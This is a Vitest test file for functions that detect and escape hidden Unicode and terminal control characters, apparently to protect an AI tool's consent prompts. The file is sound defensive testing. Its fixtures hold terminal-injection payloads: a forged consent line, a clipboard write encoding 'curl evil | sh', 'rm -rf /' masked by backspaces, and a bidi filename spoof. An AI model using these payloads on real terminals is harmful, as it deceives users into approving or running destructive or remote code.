import { describe, expect, it } from 'vitest';
import { codePoint, escapeHiddenInJson, escapeTerminal, hasHiddenCharacters, revealHidden, splitHidden } from '../../shared/visible-text.js';

const ESC = '\u001B';
const BEL = '\u0007';

// What the terminal-injection reports used: each piece rewrote or hid part of a consent prompt.
const attacks = {
  fakeLine: `${ESC}[1A\r${ESC}[2K#1  alice wants to call fs read_file`,
  title: `${ESC}]0;pwned${BEL}`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`,
  backspaces: 'rm -rf /\b\b\b\b\b\b\b\bls -la   ',
  carriageReturn: 'Deletes your files\rReads one file      ',
  conceal: `${ESC}[8m`,
  c1Csi: '\u009B2J',
  bidi: 'invoice\u202Efdp.exe',
  tags: 'ok\u{E0049}\u{E0047}\u{E004E}',
  newline: 'Reads a file.\n#2  alice wants to call fs read_file',
};

describe('hidden characters', () => {
  it('are found by Unicode property, not a list: format, default-ignorable, bidi, separators, private use, controls', () => {
    const hidden = [
      0x061c, 0xfe00, 0xfe0f, 0xe0100, 0xe01ef, 0x3164, 0x115f, 0x1160, 0xffa0, 0x034f, 0x180b, 0x180d, 0x180e, 0x2800, 0x2028, 0x2029,
      0x202e, 0x2066, 0x200b, 0x200d, 0x2060, 0xfeff, 0xe0001, 0xe0041, 0xe007f, 0x00ad, 0x17b4, 0x1d173, 0xe000, 0xf0000, 0x00, 0x07,
      0x08, 0x0b, 0x1b, 0x7f, 0x85, 0x9b,
    ];
    for (const cp of hidden) expect(hasHiddenCharacters(`a${String.fromCodePoint(cp)}b`), cp.toString(16)).toBe(true);
  });

  it('leave ordinary text alone', () => {
    for (const text of ['Reads a file.', 'line\nbreak\ttab\r\n', 'naïve café', 'ファイルを読む', 'عربى', '📄 ✓', '\u00A0non-breaking', '\u3000ideographic']) {
      expect(hasHiddenCharacters(text), text).toBe(false);
    }
  });

  it('are revealed as code points, for the UI and the client', () => {
    expect(codePoint('\u202E')).toBe('⟨U+202E⟩');
    expect(codePoint('\u{E0041}')).toBe('⟨U+E0041⟩');
    expect(revealHidden(attacks.bidi)).toBe('invoice⟨U+202E⟩fdp.exe');
    expect(revealHidden(attacks.tags)).toBe('ok⟨U+E0049⟩⟨U+E0047⟩⟨U+E004E⟩');
    expect(revealHidden(`a${ESC}[8mb\nc`)).toBe('a⟨U+001B⟩[8mb\nc');
    expect(splitHidden('a\u200Bb\u{E0041}')).toEqual([
      { text: 'a', hidden: false },
      { text: '⟨U+200B⟩', hidden: true },
      { text: 'b', hidden: false },
      { text: '⟨U+E0041⟩', hidden: true },
    ]);
    expect(splitHidden('plain')).toEqual([{ text: 'plain', hidden: false }]);
  });
});

describe('escapeTerminal', () => {
  it('leaves no control or hidden character in what reaches the terminal', () => {
    for (const [name, text] of Object.entries(attacks)) {
      const shown = escapeTerminal(text);
      expect(shown, name).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
    }
  });

  it('shows each sequence as text the user can read', () => {
    expect(escapeTerminal(attacks.fakeLine)).toBe('⟨U+001B⟩[1A⟨U+000D⟩⟨U+001B⟩[2K#1  alice wants to call fs read_file');
    expect(escapeTerminal(attacks.title)).toBe('⟨U+001B⟩]0;pwned⟨U+0007⟩');
    expect(escapeTerminal(attacks.clipboard)).toBe('⟨U+001B⟩]52;c;Y3VybCBldmlsIHwgc2g=⟨U+0007⟩');
    expect(escapeTerminal(attacks.backspaces)).toBe(`rm -rf /${'⟨U+0008⟩'.repeat(8)}ls -la   `);
    expect(escapeTerminal(attacks.carriageReturn)).toBe('Deletes your files⟨U+000D⟩Reads one file      ');
    expect(escapeTerminal(attacks.conceal)).toBe('⟨U+001B⟩[8m');
    expect(escapeTerminal(attacks.c1Csi)).toBe('⟨U+009B⟩2J');
    expect(escapeTerminal(attacks.bidi)).toBe('invoice⟨U+202E⟩fdp.exe');
    expect(escapeTerminal(attacks.tags)).toBe('ok⟨U+E0049⟩⟨U+E0047⟩⟨U+E004E⟩');
  });

  it('keeps text on one line: a newline or tab reads as \\n or \\t', () => {
    expect(escapeTerminal(attacks.newline)).toBe('Reads a file.\\n#2  alice wants to call fs read_file');
    expect(escapeTerminal('a\tb\u2028c')).toBe('a\\tb⟨U+2028⟩c');
    expect(escapeTerminal('naïve 読む 📄')).toBe('naïve 読む 📄');
  });

  it('is idempotent, so text escaped twice reads the same', () => {
    const once = escapeTerminal(Object.values(attacks).join(' '));
    expect(escapeTerminal(once)).toBe(once);
  });
});

describe('escapeHiddenInJson', () => {
  it('writes what JSON.stringify leaves raw as \\u escapes, and the JSON parses to the same value', () => {
    const value = { description: `${ESC}]0;t${BEL} \u007F\u009B2J \u2028\u2029 \u202E \u{E0041} ok`, nested: ['\u200B'] };
    const raw = JSON.stringify(value, null, 2);
    expect(raw).toMatch(/[\u007F\u009B\u2028\u2029\u202E]/u); // JSON.stringify alone lets these through
    const json = escapeHiddenInJson(raw);
    expect(json.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
    expect(json).toContain('\\u007f\\u009b2J \\u2028\\u2029 \\u202e \\udb40\\udc41 ok');
    expect(JSON.parse(json)).toEqual(value);
    // Pretty-printing's own line breaks stay.
    expect(json.split('\n').length).toBe(raw.split('\n').length);
  });
});
